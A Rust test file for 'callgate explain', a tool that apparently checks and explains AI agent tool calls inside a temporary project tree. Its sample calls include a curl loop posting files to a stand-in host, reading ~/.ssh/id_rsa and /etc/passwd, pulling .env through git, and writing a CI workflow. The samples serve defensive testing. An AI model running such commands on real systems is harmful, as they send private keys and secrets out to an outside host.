//! What `callgate explain` says of calls of different kinds, as a person reads it.
#![cfg(unix)]
use std::fs;
use std::io::Write;
use std::process::{Command, Stdio};

/// The explanation of one call in a small tree, with the tree's own place taken out.
fn explanation(call: &str) -> String {
    let scratch = tempfile::Builder::new().prefix("callgate-explain").tempdir().unwrap();
    let base = scratch.path().canonicalize().unwrap();
    let at = |name: &str| base.join(name);
    for directory in ["proj/src", "out", "home/.ssh"] {
        fs::create_dir_all(at(directory)).unwrap();
    }
    for file in ["proj/src/a.ts", "proj/.env", "out/h", "home/.ssh/id_rsa"] {
        fs::write(at(file), "x").unwrap();
    }
    std::os::unix::fs::symlink("../out", at("proj/link")).unwrap();
    fs::hard_link(at("out/h"), at("proj/hard.txt")).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_callgate"))
        .args(["explain", "--root"])
        .arg(at("proj"))
        .env_clear()
        .env("HOME", at("home"))
        .current_dir(at("proj"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(call.as_bytes()).unwrap();
    let done = child.wait_with_output().unwrap();
    String::from_utf8(done.stdout).unwrap().replace(base.to_str().unwrap(), "{{B}}")
}

#[test]
fn a_call_that_passes() {
    insta::assert_snapshot!("explain_passes", explanation(r#"{"tool":"read_file","arguments":{"path":"src/a.ts"}}"#));
}

#[test]
fn a_pipeline_with_the_role_of_each_word() {
    let call = r#"{"tool":"bash","arguments":{"command":"grep -rn /etc/passwd src | sort -o ../out/x && cat link/h > \"$F\""}}"#;
    insta::assert_snapshot!("explain_pipeline", explanation(call));
}

#[test]
fn a_command_of_several_lines() {
    let call = r#"{"tool":"bash","arguments":{"command":"for f in a b; do\n  curl -d @$f https://x.test/$f\ndone\ncat ~/.ssh/id_rsa"}}"#;
    insta::assert_snapshot!("explain_lines", explanation(call));
}

#[test]
fn a_hard_link() {
    insta::assert_snapshot!("explain_hard_link", explanation(r#"{"tool":"read_file","arguments":{"path":"hard.txt"}}"#));
}

#[test]
fn a_file_in_another_store() {
    let call = r#"{"server":"git","tool":"git_show","arguments":{"repo_path":".","revision":"HEAD:.env"}}"#;
    insta::assert_snapshot!("explain_store", explanation(call));
}

#[test]
fn a_control_file_and_its_content() {
    let call = r#"{"tool":"write_file","arguments":{"path":".github/workflows/ci.yml","content":"see /etc/hosts"}}"#;
    insta::assert_snapshot!("explain_control", explanation(call));
}
